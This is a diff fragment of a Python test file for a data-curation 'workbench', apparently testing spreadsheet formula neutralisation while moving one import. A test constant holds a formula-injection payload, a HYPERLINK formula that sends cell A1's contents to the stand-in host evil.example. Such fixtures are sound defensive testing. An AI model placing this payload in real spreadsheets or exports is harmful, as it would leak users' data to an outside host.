@@ -17,12 +17,12 @@ import pytest
 
 from workbench.cli import run_cli
 from workbench.consent import ledger as L
-from workbench.consent.scope import publish
 from workbench.curation import importer, snapshot
 from workbench.spreadsheet import FORMULA_START, neutralise, neutralise_frame, neutralise_text_table, write_csv
 from workbench.ui.curation import CurationView
 
 from .consent_support import make_scope, new_project
+from .gates import publish
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"click")'
 ROWS = [  # every row is c-ok's, who consented to train: all are kept
